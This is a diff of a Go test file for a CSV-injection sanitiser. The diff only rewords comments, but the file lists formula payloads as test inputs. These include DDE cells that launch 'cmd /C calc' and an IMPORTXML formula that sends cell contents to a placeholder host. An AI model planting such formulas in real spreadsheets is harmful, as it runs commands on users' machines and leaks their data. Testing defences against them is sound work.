@@ -7,8 +7,8 @@ import (
 	"testing"
 )
 
-// formulas are what the usual lists of dangerous cells have: OWASP's CSV injection, and the
-// lists that testers of web pages send.
+// formulas are dangerous cells from common lists: OWASP's page about CSV injection, and
+// lists for testing web pages.
 var formulas = []string{
 	"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x","y")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
 	`@SUM(1+1)*cmd|' /C calc'!A0`, `=IMPORTXML(CONCAT("http://x?v=",A1),"//a")`, "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
@@ -53,7 +53,7 @@ func TestHarmlessTextStays(t *testing.T) {
 	}
 }
 
-// TestCSV: a table is read again as it was written, but for the apostrophes.
+// TestCSV: reading a written table returns the same rows, with the added apostrophes.
 func TestCSV(t *testing.T) {
 	rows := [][]string{{"a", "b"}, {"x,y", `he said "no"`}, {"two\nlines", ""}}
 	for _, text := range formulas {
@@ -68,7 +68,7 @@ func TestCSV(t *testing.T) {
 		t.Fatalf("%d rows of %d: %v", len(read), len(rows), err)
 	}
 	for i := range rows {
-		want := strings.ReplaceAll(Inert(rows[i][0]), "\r\n", "\n") // as encoding/csv reads the end of a line
+		want := strings.ReplaceAll(Inert(rows[i][0]), "\r\n", "\n") // encoding/csv reads \r\n as \n
 		if read[i][0] != want || read[i][1] != Inert(rows[i][1]) {
 			t.Errorf("row %d is %q, want %q", i, read[i], rows[i])
 		}
